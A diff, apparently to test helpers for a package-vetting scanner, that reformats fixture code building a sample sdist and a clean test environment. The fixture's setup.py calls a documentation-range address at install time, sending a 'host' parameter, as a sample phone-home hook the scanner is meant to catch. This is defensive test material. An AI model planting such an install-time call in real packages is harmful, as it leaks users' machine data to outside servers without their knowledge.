@@ -19,12 +19,12 @@ REPO = Path(__file__).resolve().parents[2]
 
 # A setup.py that phones home at install time: something `vetbench scan` must report.
 # Documentation-range address only (RFC 5737); the file is never executed.
-_SETUP_PY = b'''from setuptools import setup
+_SETUP_PY = b"""from setuptools import setup
 import urllib.request
 
 urllib.request.urlopen("http://192.0.2.10/collect?host=x").read()
 setup(name="tinypkg", version="1.0")
-'''
+"""
 _PKG_INFO = b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n"
 
 
@@ -33,8 +33,11 @@ def tiny_sdist(tmp_path: Path) -> Path:
     """``tinypkg-1.0.tar.gz``: PKG-INFO plus a setup.py that fetches a URL at install time."""
     path = tmp_path / "tinypkg-1.0.tar.gz"
     with tarfile.open(path, "w:gz") as tar:
-        for name, data in (("PKG-INFO", _PKG_INFO), ("setup.py", _SETUP_PY),
-                           ("tinypkg/__init__.py", b"VERSION = '1.0'\n")):
+        for name, data in (
+            ("PKG-INFO", _PKG_INFO),
+            ("setup.py", _SETUP_PY),
+            ("tinypkg/__init__.py", b"VERSION = '1.0'\n"),
+        ):
             info = tarfile.TarInfo(f"tinypkg-1.0/{name}")
             info.size = len(data)
             info.mode = 0o644
@@ -52,13 +55,21 @@ def png_size(path: Path) -> tuple[int, int]:
 
 def clean_env(tmp_path: Path, **extra: str) -> dict[str, str]:
     """An environment that shares nothing with the developer's venv or data dirs."""
-    env = {k: v for k, v in os.environ.items()
-           if k not in {"VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME", "VETBENCH_DB"}}
+    env = {
+        k: v
+        for k, v in os.environ.items()
+        if k not in {"VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME", "VETBENCH_DB"}
+    }
     home = tmp_path / "home"
     home.mkdir(exist_ok=True)
-    env.update(HOME=str(home), XDG_DATA_HOME=str(home / "data"),
-               XDG_CONFIG_HOME=str(home / "config"), XDG_CACHE_HOME=str(home / "cache"),
-               QT_QPA_PLATFORM="offscreen", LANG="C.UTF-8")
+    env.update(
+        HOME=str(home),
+        XDG_DATA_HOME=str(home / "data"),
+        XDG_CONFIG_HOME=str(home / "config"),
+        XDG_CACHE_HOME=str(home / "cache"),
+        QT_QPA_PLATFORM="offscreen",
+        LANG="C.UTF-8",
+    )
     # pip's cache stays the developer's, so a fresh venv reuses downloaded wheels.
     env.setdefault("PIP_CACHE_DIR", str(Path.home() / ".cache" / "pip"))
     env.update(extra)
